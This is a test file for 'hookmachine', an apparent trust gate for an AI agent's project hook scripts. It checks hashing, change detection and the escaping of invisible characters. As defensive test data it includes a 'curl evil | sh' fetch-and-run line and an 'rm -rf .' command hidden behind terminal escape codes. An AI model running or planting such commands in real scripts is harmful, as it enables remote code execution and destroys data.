import { createHash } from 'node:crypto';
import { appendFileSync, chmodSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { describe, expect, test } from 'vitest';
import { hookmachine } from '../support/hookmachine.ts';
import { inProcess } from '../support/in-process.ts';
import { sandbox, type Sandbox } from '../support/sandbox.ts';

const hook = (command: string, more: object = {}) => ({ type: 'command', command, ...more });
const guardScript = '#!/bin/sh\necho no >&2; exit 2\n';
const guard = hook('./guard.sh', { name: 'guard' });

/** Settings with BeforeTool hooks. */
const settings = (...hooks: object[]) => ({
  enableHooks: true,
  hooks: { BeforeTool: [{ hooks }] },
});

/** A sandbox whose project has a guard that denies. */
function guarded(...hooks: object[]) {
  const box = sandbox();
  const env = { ...box.env, HOOKMACHINE_TRUST: '' };
  box.write(box.files.project, settings(...(hooks.length > 0 ? hooks : [guard])));
  const script = box.write('project/guard.sh', guardScript);
  chmodSync(script, 0o755);
  return { ...box, env, script, trustFile: join(box.home, '.hookmachine', 'trust.json') };
}

const sha256 = createHash('sha256').update(guardScript).digest('hex');
/** A session in which the model writes a file. */
const script = `
- calls: [{ name: write_file, args: { file_path: b.txt, content: hello } }]
- text: Done.
`;
const event = JSON.stringify({ tool_name: 'write_file', tool_input: {} });

/** Fires BeforeTool, and returns the outcome and the warnings. */
async function fire(box: Pick<Sandbox, 'project' | 'env'>, ...options: string[]) {
  const { stdout, stderr } = await inProcess(box, ['fire', 'BeforeTool', ...options], event);
  const { hookCount, blocked } = JSON.parse(stdout) as { hookCount: number; blocked: boolean };
  return { hookCount, blocked, warnings: stderr === '' ? [] : stderr.split('\n') };
}

/** Runs the command as a script does, which cannot be asked. */
const trust = (box: Pick<Sandbox, 'project' | 'env'>, ...options: string[]) =>
  inProcess(box, ['trust', '--yes', ...options]);

const allowIt = 'look at what it runs, then allow it: hookmachine trust';
const skipped = (why: string, more = '') => ({
  hookCount: 0,
  blocked: false,
  warnings: [`hookmachine: hook "guard" (BeforeTool) was skipped: ${why}; ${allowIt}${more}`],
});
/** Nothing of the project counts, and one line says so. */
const ignored = ({ project }: Pick<Sandbox, 'project'>, more = '') => ({
  hookCount: 0,
  blocked: false,
  warnings: [
    `hookmachine: ${project}: the hooks of this project are not trusted, so they were skipped; look at them: hookmachine trust --show${more}, then allow them: hookmachine trust${more}`,
  ],
});
const denied = { hookCount: 1, blocked: true, warnings: [] };
const untrusted = 'this folder is not trusted';
const changed = 'its script "guard.sh" has changed since you trusted it';

test('trust reports once that a settings file cannot be used', async () => {
  const box = guarded();
  box.write(box.files.project, '{');
  const { stderr } = await inProcess(box, ['trust', '--show']);
  expect(stderr.split('\n').filter((line) => line.includes('not valid JSON'))).toHaveLength(1);
});

test('trust forgets no hook that may be in an unreadable file', async () => {
  const box = guarded();
  await trust(box);
  box.write(box.files.project, '{');
  const { stderr, exitCode } = await trust(box);
  expect(stderr).toContain(`nothing is recorded: what you trusted may be in ${box.files.project}`);
  expect(exitCode).toBe(1);
  box.write(box.files.project, settings(guard));
  expect(await fire(box)).toEqual(denied);
});

describe('a project that the user has not trusted', () => {
  test('fire, tool and run do not run the hooks of an untrusted project, and report it (C-104)', async () => {
    const box = guarded(hook('./guard.sh; touch ran', { name: 'guard' }));
    expect(await fire(box)).toEqual(ignored(box));
    const input = JSON.stringify({ file_path: 'a.txt', content: 'hello' });
    const tool = await hookmachine(box, ['tool', 'write_file', '--input', input]);
    expect([tool.exitCode, tool.stderr]).toEqual([0, ignored(box).warnings[0]]);
    const model = box.write('session.yaml', script);
    const run = await hookmachine(box, ['run', 'Hi', '--model', `scripted:${model}`]);
    expect([run.exitCode, run.stderr]).toEqual([0, ignored(box).warnings[0]]);
    expect(() => readFileSync(join(box.project, 'ran'))).toThrow('ENOENT');
  });

  test('fire, tool and run with --trust run the hooks of an untrusted project', async () => {
    const box = guarded();
    expect(await fire(box, '--trust')).toEqual(denied);
    const input = JSON.stringify({ file_path: 'a.txt', content: 'hello' });
    const tool = await inProcess(box, ['tool', 'write_file', '--input', input, '--trust']);
    expect([tool.exitCode, tool.stderr]).toEqual([2, '']);
    const model = box.write('session.yaml', script);
    const run = await inProcess(box, ['run', 'Hi', '--model', `scripted:${model}`, '--trust']);
    expect(run.stderr).toBe('');
    expect(run.stdout).toContain('no');
    expect(await fire(box)).toEqual(ignored(box));
  });

  test.each(['1', 'true'])(
    'the hooks of an untrusted project run with HOOKMACHINE_TRUST=%s',
    async (value) => {
      const box = guarded();
      expect(await fire({ ...box, env: { ...box.env, HOOKMACHINE_TRUST: value } })).toEqual(denied);
    },
  );

  test.each(['0', 'false', ''])(
    'no hook of an untrusted project runs with HOOKMACHINE_TRUST=%j',
    async (value) => {
      const box = guarded();
      const env = { ...box.env, HOOKMACHINE_TRUST: value };
      expect(await fire({ ...box, env })).toEqual(ignored(box));
    },
  );

  test('a project cannot trust itself with its settings, nor with a trust file of its own', async () => {
    const box = guarded();
    const more = { trust: true, trusted: true, hooksConfig: { trust: true }, security: {} };
    box.write(box.files.project, { ...settings(guard), ...more });
    box.write('project/.hookmachine/trust.json', { version: 1, projects: {} });
    box.write('project/.env', 'HOOKMACHINE_TRUST=1');
    expect(await fire(box)).toEqual(ignored(box));
  });

  test("the user's, the system's and the extensions' hooks run in an untrusted project (C-10)", async () => {
    const box = guarded();
    box.write(box.files.user, settings(hook('exit 2')));
    box.write(box.files.system, settings(hook('true')));
    box.write('home/.llxprt/extensions/one/hooks/hooks.json', settings(hook('true; true')));
    expect(await fire(box)).toEqual({ ...ignored(box), hookCount: 3, blocked: true });
  });

  test("an untrusted project cannot displace a user's hook with the same command", async () => {
    const box = guarded();
    box.write(box.files.user, settings(guard));
    expect(await fire(box)).toEqual({ ...ignored(box), hookCount: 1, blocked: true });
  });

  test('list shows the hooks of an untrusted project as not trusted', async () => {
    const box = guarded();
    const { stdout } = await inProcess(box, ['list']);
    expect(stdout).toContain('  guard (not trusted)\n');
    expect(stdout).toContain(`\n    skipped  ${untrusted}; ${allowIt}`);
    const json = await inProcess(box, ['list', '--json']);
    expect(JSON.parse(json.stdout)).toMatchObject({
      hooks: [{ name: 'guard', untrusted: { why: untrusted, fix: allowIt } }],
    });
    await trust(box);
    expect((await inProcess(box, ['list'])).stdout).not.toMatch(/trust|skipped/);
  });
});

describe('hookmachine trust', () => {
  test('trust shows what would run with the scripts behind it, and records it', async () => {
    const box = guarded(guard, hook('true'));
    const { stdout, stderr, exitCode } = await trust(box);
    expect(stdout).toBe(`BeforeTool
  guard
    command  ./guard.sh
    matcher  *
    script   guard.sh  30 bytes  sha256 ${sha256.slice(0, 12)}
    so far   skipped: this folder is not trusted
  true
    matcher  *
    script   none in the project, only the command itself
    so far   skipped: this folder is not trusted

Trusted as they are now: 2 hooks of ${box.project}`);
    expect([stderr, exitCode]).toEqual(['', 0]);
    expect(await fire(box)).toEqual({ ...denied, hookCount: 2 });
  });

  test('trust --show records nothing, and trust --revoke forgets', async () => {
    const box = guarded();
    const shown = await trust(box, '--show');
    expect(shown.stdout).toContain('    so far   skipped: this folder is not trusted\n');
    expect(shown.stdout).toContain('Not trusted: 1 of 1 hook of ');
    expect(await fire(box)).toEqual(ignored(box));
    await trust(box);
    expect((await trust(box, '--show')).stdout).toContain('\n\nTrusted: 1 hook of ');
    expect((await trust(box, '--revoke')).stdout).toBe(`No longer trusted: ${box.project}`);
    expect(await fire(box)).toEqual(ignored(box));
    expect((await trust(box, '--revoke', '--show')).exitCode).not.toBe(0);
  });

  test('trust --json reports the hooks, and what was recorded or revoked', async () => {
    const box = guarded();
    const shown = {
      event: 'BeforeTool',
      name: 'guard',
      command: './guard.sh',
      place: 'hooks.BeforeTool[0].hooks[0]',
      enabled: true,
      scripts: [{ path: 'guard.sh', realPath: box.script, size: 30, sha256 }],
      unfollowed: [],
    };
    const around = { project: box.project, file: box.trustFile, revoked: false, missing: [] };
    const json = async (...options: string[]) =>
      JSON.parse((await trust(box, '--json', ...options)).stdout) as unknown;
    expect(await json('--show')).toEqual({
      ...around,
      recorded: false,
      hooks: [{ ...shown, trusted: false, why: untrusted }],
    });
    expect(await json()).toEqual({
      ...around,
      recorded: true,
      hooks: [{ ...shown, trusted: true, before: untrusted }],
    });
    expect(await json('--show')).toMatchObject({ hooks: [{ trusted: true }] });
    expect(await json('--revoke')).toMatchObject({ recorded: true, revoked: true });
  });

  test('trust --cwd accepts another folder, and the report of its skipped hooks names it', async () => {
    const box = guarded();
    const elsewhere = { ...box, project: box.home };
    const more = ` --cwd ${JSON.stringify(box.project)}`;
    expect(await fire(elsewhere, '--cwd', '../project')).toEqual(ignored(box, more));
    await trust(elsewhere, '--cwd', '../project');
    expect(await fire(elsewhere, '--cwd', '../project')).toEqual(denied);
    expect(await trust(box, '--cwd', 'nowhere')).toMatchObject({
      exitCode: 1,
      stderr: 'hookmachine: --cwd nowhere: there is no such folder',
    });
  });

  test('trust says that there is nothing to trust, that hooks are off, and what is discarded', async () => {
    const box = sandbox();
    expect(await trust(box)).toMatchObject({
      stdout: `This project configures no hooks: ${box.project}`,
      stderr: '',
    });
    box.write(box.files.project, '{ "hooks": {');
    expect(await trust(box)).toMatchObject({
      stdout: `This project configures no hooks that can be read: ${box.project}`,
      stderr: expect.not.stringContaining('hooks are off') as unknown,
    });
    box.write(box.files.project, { hooks: { BeforeTool: [{ hooks: [{}, guard] }] } });
    const { stderr, stdout } = await trust(box);
    expect(stderr).toContain('hooks are off here');
    expect(stderr).toContain('hooks.BeforeTool[0].hooks[0].type: is missing');
    expect(stdout).toContain('Trusted as they are now: 1 hook of ');
  });

  test('trust names what switches hooks off', async () => {
    const box = guarded();
    const file = box.write(box.own.user, { hooksConfig: { enabled: false } });
    expect((await trust(box)).stderr).toContain(
      `hooks are off here: "hooksConfig.enabled" is false in ${file}; make it true`,
    );
  });

  test("trust keeps a stranger's settings from playing tricks on the terminal", async () => {
    const box = guarded(hook('echo harmless #\u001B[2K\r\nrm -rf . \u202E\u009B31m'));
    const { stdout } = await trust(box, '--show');
    expect(stdout).toContain('  echo harmless #\\u{1b}[2K\\u{d}\\nrm -rf . \\u{202e}\\u{9b}31m\n');
  });

  test('many trust commands at once lose none of each other’s records', async () => {
    const box = guarded();
    const folders = Array.from({ length: 6 }, (_, index) => {
      box.write(`many/${index}/.llxprt/settings.json`, settings(guard));
      return join(box.folder, 'many', String(index));
    });
    const ended = await Promise.all(
      folders.map((folder) => hookmachine(box, ['trust', '--yes', '--cwd', folder])),
    );
    const { projects } = JSON.parse(readFileSync(box.trustFile, 'utf8')) as { projects: object };
    // On a machine that stalls, one may give up waiting for its turn, and says so.
    for (const { exitCode, stderr } of ended)
      if (exitCode !== 0) expect(stderr).toContain('another hookmachine is using it');
    const recorded = folders.filter((_, at) => ended[at]!.exitCode === 0);
    expect(recorded).not.toEqual([]);
    expect(Object.keys(projects).toSorted()).toEqual(recorded);
  });
});

describe('hookmachine trust asks before it records', () => {
  test('without a terminal, trust records nothing, shows the hooks all the same, and says how to go on', async () => {
    const box = guarded();
    const { exitCode, stderr, stdout } = await inProcess(box, ['trust']);
    expect([exitCode, stdout]).toEqual([1, expect.stringContaining('    script   guard.sh')]);
    expect(stderr).toContain('pass --yes, or answer on a terminal');
    expect(await fire(box)).toEqual(ignored(box));
    expect((await inProcess(box, ['trust', '--json'])).exitCode).toBe(1);
  });

  test.each([
    ['y', 0, denied],
    ['YES', 0, denied],
    ['n', 1, undefined],
    ['', 1, undefined],
    ['yesterday', 1, undefined],
  ])('on a terminal, trust goes by the answer %j', async (answer, exitCode, result) => {
    const box = guarded();
    const { main } = await import('../support/main.ts');
    const command = `"${process.execPath}" "${main}" trust`;
    // `script` gives it a terminal.
    const asked = await execa('script', ['-qec', command, '/dev/null'], {
      cwd: box.project,
      env: box.env,
      input: `${answer}\n`,
      reject: false,
    });
    expect(asked.stdout).toContain('Let these hooks run as they are now? [y/N]');
    expect(asked.exitCode).toBe(exitCode);
    expect(await fire(box)).toEqual(result ?? ignored(box));
  });

  test('trust asks nothing if nothing has changed', async () => {
    const box = guarded();
    await trust(box);
    expect(await inProcess(box, ['trust'])).toMatchObject({
      exitCode: 0,
      stdout: expect.stringContaining('Trusted: 1 hook of '),
    });
  });

  test('trust shows what has changed, in the script and in the definition', async () => {
    const box = guarded();
    await trust(box);
    appendFileSync(box.script, 'curl evil\u202E | sh\n');
    box.write(box.files.project, settings({ ...guard, timeout: 1234 }));
    const { stdout } = await trust(box, '--show');
    expect(stdout).toContain('    changed  definition\n');
    expect(stdout).toContain('      -timeout: 60000\n      +timeout: 1234\n');
    expect(stdout).toContain('    changed  guard.sh\n');
    expect(stdout).toContain('       echo no >&2; exit 2\n      +curl evil\\u{202e} | sh\n');
    const copies = join(box.home, '.hookmachine', 'trusted');
    expect(statSync(copies).mode & 0o777).toBe(0o700);
    for (const name of readdirSync(copies))
      expect(statSync(join(copies, name)).mode & 0o777).toBe(0o600);
  });

  test.each([
    ['\u200B', '200b'],
    ['\u00AD', 'ad'],
    ['\u2028', '2028'],
    ['\u2029', '2029'],
    ['\u2066', '2066'],
    ['\uFEFF', 'feff'],
    ['\u{E0041}', 'e0041'],
    ['\u0007', '7'],
    ['\u3164', '3164'],
    ['\u00A0', 'a0'],
    ['\u061C', '61c'],
    ['\u{1D173}', '1d173'],
    ['\uFE0F', 'fe0f'],
  ])(
    'trust shows the invisible character %j in commands, names and matchers',
    async (char, code) => {
      const box = sandbox();
      const one = { ...hook(`echo a${char}b`), name: `n${char}m` };
      const hooks = { BeforeTool: [{ matcher: `x${char}y`, hooks: [one] }] };
      box.write(box.files.project, { enableHooks: true, hooks });
      const { stdout } = await trust(box, '--show');
      expect(stdout).toContain(`echo a\\u{${code}}b`);
      expect(stdout).toContain(`n\\u{${code}}m`);
      expect(stdout).toContain(`x\\u{${code}}y`);
      expect(stdout).not.toContain(char);
      expect((await trust(box, '--show', '--json')).stdout).not.toContain(char);
    },
  );
});

describe('a command that cannot be followed', () => {
  const opaque = { ...hook('for f in hooks.d/*.sh; do sh "$f"; done'), name: 'guard' };
  const withScripts = () => {
    const box = guarded(opaque);
    box.write('project/hooks.d/one.sh', 'echo no >&2; exit 2\n');
    return box;
  };

  test('trust says that a command cannot be followed, and the files that it may run count', async () => {
    const box = withScripts();
    const { stdout } = await trust(box);
    expect(stdout).toContain('cannot be followed: which script "sh \\"$f\\"" runs is not literal');
    expect(stdout).toContain('    scripts  hooks.d/*.sh\n');
    expect(stdout).toContain('    script   hooks.d/one.sh  ');
    expect(await fire(box)).toMatchObject({ hookCount: 1 });
    box.write('project/src/a.ts', 'export {};\n');
    expect(await fire(box)).toMatchObject({ hookCount: 1 });
    box.write('project/hooks.d/two.sh', 'exit 0\n');
    const { hookCount, warnings } = await fire(box);
    expect([hookCount, warnings]).toEqual([
      0,
      [expect.stringContaining('"hooks.d/two.sh" is new since you trusted it')],
    ]);
  });

  test('a command that cannot be followed never runs if the user refuses such hooks, by settings or option', async () => {
    const refused = /your settings refuse such hooks/;
    const box = withScripts();
    box.write(box.files.user, { hooksConfig: { opaqueCommands: 'refuse' } });
    expect((await trust(box)).stdout).toMatch(refused);
    expect((await fire(box)).warnings).toEqual([expect.stringMatching(refused)]);
    const other = withScripts();
    await trust(other, '--opaque', 'refuse');
    expect((await fire(other)).warnings).toEqual([expect.stringMatching(refused)]);
    // The project's own setting does not count.
    const third = guarded(opaque);
    third.write(third.files.project, {
      ...settings(opaque),
      hooksConfig: { opaqueCommands: 'refuse' },
    });
    expect((await trust(third)).stdout).not.toMatch(refused);
  });
});

const reported = (what: string) =>
  `hookmachine: a hook that you trusted no longer guards as you trusted it: "guard" (BeforeTool) ${what}; look with: hookmachine trust --show`;

describe('a trusted guard that no longer guards anything', () => {
  test.each([
    ['is gone', { enableHooks: true, hooks: {} }],
    ['is gone', {}],
    [
      "is disabled by the project's settings",
      { ...settings(guard), hooksConfig: { disabled: ['guard'] } },
    ],
    ['is disabled: hooks are switched off', { ...settings(guard), enableHooks: false }],
  ])('fire, tool and run report a trusted guard that %s', async (what, values) => {
    const box = guarded();
    await trust(box);
    box.write(box.files.project, values);
    expect(await fire(box)).toEqual({ hookCount: 0, blocked: false, warnings: [reported(what)] });
    const input = JSON.stringify({ file_path: 'a.txt', content: 'hello' });
    const tool = await inProcess(box, ['tool', 'write_file', '--input', input]);
    expect([tool.exitCode, tool.stderr]).toEqual([0, reported(what)]);
    const model = box.write('session.yaml', script);
    const run = await inProcess(box, ['run', 'Hi', '--model', `scripted:${model}`]);
    expect(run.stderr).toBe(reported(what));
    const shown = await trust(box, '--show');
    expect(shown.stdout).toContain(`  guard (BeforeTool)  ${what}\n`);
    const { missing } = JSON.parse((await trust(box, '--show', '--json')).stdout) as {
      missing: unknown;
    };
    expect(missing).toMatchObject([{ event: 'BeforeTool', name: 'guard', why: what }]);
    // Trusting again forgets it.
    await trust(box);
    expect((await fire(box)).warnings).toEqual([]);
  });

  test('a trusted guard is not said to be gone if its file cannot be parsed', async () => {
    const box = guarded();
    await trust(box);
    box.write(box.files.project, '{ "hooks": [');
    const { warnings } = await fire(box);
    expect(warnings[0]).toContain(`is not found (${box.files.project}: not valid JSON`);
    expect(warnings.join()).not.toContain('is gone');
  });

  test('a trusted guard that has changed is also reported at other events, and once per session (S-19)', async () => {
    const box = guarded();
    await trust(box);
    box.write(box.files.project, settings({ ...guard, timeout: 1_000 }));
    const other = async (...options: string[]) =>
      (
        await inProcess(
          box,
          ['fire', 'AfterTool', ...options],
          '{"tool_name":"x","tool_input":{},"tool_response":{}}',
        )
      ).stderr;
    const changedLine = reported('has changed since you trusted it');
    expect(await other()).toBe(changedLine);
    expect(await other()).toBe(changedLine);
    expect(await other('--session-id', 'one')).toBe(changedLine);
    expect(await other('--session-id', 'one')).toBe('');
    expect(await other('--session-id', 'two')).toBe(changedLine);
    expect(await other('--no-hooks')).toBe('');
  });
});

describe('after the user trusted a project', () => {
  test('a changed script is skipped until it is trusted again, and other hooks run', async () => {
    const box = guarded(guard, hook('true'));
    await trust(box);
    appendFileSync(box.script, '# more\n');
    expect(await fire(box)).toEqual({ ...skipped(changed), hookCount: 1 });
    expect((await trust(box)).stdout).toContain(`    so far   skipped: ${changed}\n`);
    expect(await fire(box)).toEqual({ ...denied, hookCount: 2 });
  });

  test('a script that is changed while the agent works is not started', async () => {
    const box = guarded({ ...hook('./slow.sh'), name: 'slow' }, guard);
    const slow = box.write('project/slow.sh', '#!/bin/sh\necho "# more" >> guard.sh\n');
    chmodSync(slow, 0o755);
    const hooks = { BeforeTool: [{ sequential: true, hooks: [hook('./slow.sh'), guard] }] };
    box.write(box.files.project, { enableHooks: true, hooks });
    await trust(box);
    expect(await fire(box)).toEqual({ ...skipped(changed), hookCount: 1 });
  });
});

describe('a trust file that cannot be used', () => {
  test('what an earlier hookmachine recorded must be trusted once more, which is said', async () => {
    const box = guarded();
    await trust(box);
    const former = JSON.parse(readFileSync(box.trustFile, 'utf8')) as object;
    box.write(box.trustFile, { ...former, version: 2 });
    const why = 'you trusted it with an earlier hookmachine, which compared other files';
    expect(await fire(box)).toEqual(skipped(why));
    expect((await trust(box)).stdout).toContain(`    so far   skipped: ${why}\n`);
    expect(await fire(box)).toEqual(denied);
  });

  test('a corrupt trust file trusts nothing, is reported with its fix, and is kept', async () => {
    const box = guarded();
    await trust(box);
    box.write(box.trustFile, '{"version":1,');
    const { hookCount, warnings } = await fire(box);
    expect([hookCount, warnings]).toEqual([
      0,
      [
        `hookmachine: nothing is trusted: the trust file ${box.trustFile} is corrupt; trust your projects again: hookmachine trust`,
        ...ignored(box).warnings,
      ],
    ]);
    const { exitCode, stderr } = await trust(box);
    expect(exitCode).toBe(0);
    expect(stderr).toContain(`it is kept as ${box.trustFile}.bak`);
    expect(readFileSync(`${box.trustFile}.bak`, 'utf8')).toBe('{"version":1,');
    expect(await fire(box)).toEqual(denied);
  });

  test('a trust file of a newer version trusts nothing, and nothing replaces it', async () => {
    const box = guarded();
    box.write(box.trustFile, '{"version":7}');
    const message = `the trust file ${box.trustFile} was written by a newer hookmachine (version 7); update hookmachine, or move the file away`;
    expect((await fire(box)).warnings[0]).toBe(`hookmachine: nothing is trusted: ${message}`);
    const { exitCode, stderr } = await trust(box);
    expect(exitCode).toBe(1);
    expect(stderr).toContain(`hookmachine: ${message}`);
    expect(readFileSync(box.trustFile, 'utf8')).toBe('{"version":7}');
  });

  test('without a home folder nothing is trusted, which is said once, and --trust helps', async () => {
    const box = guarded(guard, { ...guard, command: './guard.sh 2' });
    const homeless = { ...box, env: { ...box.env, HOME: '' } };
    const { warnings } = await fire(homeless);
    expect(warnings.filter((line) => line.includes('without a home folder'))).toHaveLength(1);
    expect(await trust(homeless)).toMatchObject({
      exitCode: 1,
      stderr: expect.stringContaining('there is no home folder to record trust in: set HOME'),
    });
    expect(await fire(homeless, '--trust')).toMatchObject({ hookCount: 2, blocked: true });
  });
});
